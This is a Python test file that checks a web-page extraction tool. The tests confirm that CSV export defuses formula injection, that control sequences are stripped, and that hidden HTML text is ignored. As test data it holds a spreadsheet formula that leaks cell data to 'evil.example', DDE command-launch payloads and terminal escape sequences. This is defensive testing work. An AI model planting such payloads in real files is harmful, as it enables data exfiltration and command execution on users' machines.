"""What pages say reaches spreadsheets and terminals as words, never as commands."""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import pyarrow as pa
import pytest
from rich.console import Console

import prospectus
from prospectus.cli import main
from prospectus.explain import explain
from prospectus.model import Source
from prospectus.runs.export import WRITERS

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
PLAIN = ["MSc Robotics", "+44 (0)113 496 0831", "-12.50", "", "a=b", "1-2", "[1]", "'quoted'"]
CONTROLS = "\x1b[31mred\x1b[0m \x1b]0;owned\x07 \x9b2J \x08\x08 \u202etxt.exe"


def written(cells: list[str | None], folder: Path) -> list[str]:
    path = folder / "a.csv"
    WRITERS["csv"][1](pa.table({"cell": pa.array(cells, pa.string())}), path)
    return [row[0] if row else "" for row in csv.reader(io.StringIO(path.read_bytes().decode(), newline=""))][1:]


def test_formulas_are_defused(tmp_path: Path) -> None:
    assert written([*FORMULAS], tmp_path) == [f"'{formula}" for formula in FORMULAS]


def test_plain_cells_stay_as_they_are(tmp_path: Path) -> None:
    assert written([*PLAIN, None], tmp_path) == [*PLAIN, ""]


def test_a_terminal_obeys_nothing_that_a_page_says() -> None:
    head = f"<title>MSc {CONTROLS}</title><h1>MSc Robotics {CONTROLS}</h1>"
    page = f"{head}<h2>Fee {CONTROLS}</h2><p>{CONTROLS} £900 a year"
    out = io.StringIO()
    Console(file=out, width=200).print(explain(Source(page.encode(), uri=CONTROLS)))
    assert [char for char in out.getvalue() if not char.isprintable() and char != "\n"] == []


def test_the_json_of_a_page_is_escaped(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    (tmp_path / "page.html").write_text(f"<h1>MSc Robotics {CONTROLS}</h1>", encoding="utf-8")
    monkeypatch.setattr(sys, "argv", ["prospectus", "extract", str(tmp_path / "page.html")])
    with pytest.raises(SystemExit):
        main()
    assert not {"\x1b", "\x07", "\x08", "\x9b"} & set(capsys.readouterr().out)


@pytest.mark.parametrize(
    "hidden",
    [
        "<div hidden>{}</div>",
        '<div style="display:none">{}</div>',
        '<p aria-hidden="true">{}</p>',
        "<!-- {} -->",
        '<img src="a.png" alt="{}">',
        "<template>{}</template>",
        "<noscript>{}</noscript>",
        '<input type="hidden" value="{}">',
        '<p style="position:absolute; left:-9999px">{}</p>',
        '<p style="color:#fff;background:#fff">{}</p>',
        '<p style="text-indent:-9999px">{}</p>',
    ],
)
def test_what_no_reader_sees_is_no_value(hidden: str) -> None:
    false = hidden.format("Tuition fee: £1 per year for all students")
    page = f"<h1>MSc Robotics</h1><p>University of Wexmere</p>{false}<h2>Fees</h2><p>Tuition fee: £12,900 per year</p>"
    found = prospectus.extract(page)
    assert found.record is not None
    assert [str(fee["amount"]) for fee in found.record.model_dump()["fees"]] == ["12900"]
